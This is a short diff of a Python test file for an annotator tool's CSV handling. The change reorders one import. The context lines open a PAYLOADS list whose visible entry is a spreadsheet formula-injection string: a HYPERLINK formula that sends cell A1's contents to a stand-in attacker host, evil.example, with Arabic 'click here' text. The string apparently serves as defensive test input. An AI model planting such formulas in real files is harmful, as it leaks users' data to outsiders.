@@ -15,11 +15,11 @@ import time
 from pathlib import Path
 
 import pytest
+from reliability_support import REPO_ROOT, record, subprocess_env, tally
 
 from annotator.core.csvio import HEADER, CsvReader, CsvRefused
 from annotator.core.text import read_document
 from annotator.store.repository import Repository
-from reliability_support import REPO_ROOT, record, subprocess_env, tally
 
 PAYLOADS = [
     '=HYPERLINK("http://evil.example/?leak="&A1,"انقر هنا")',
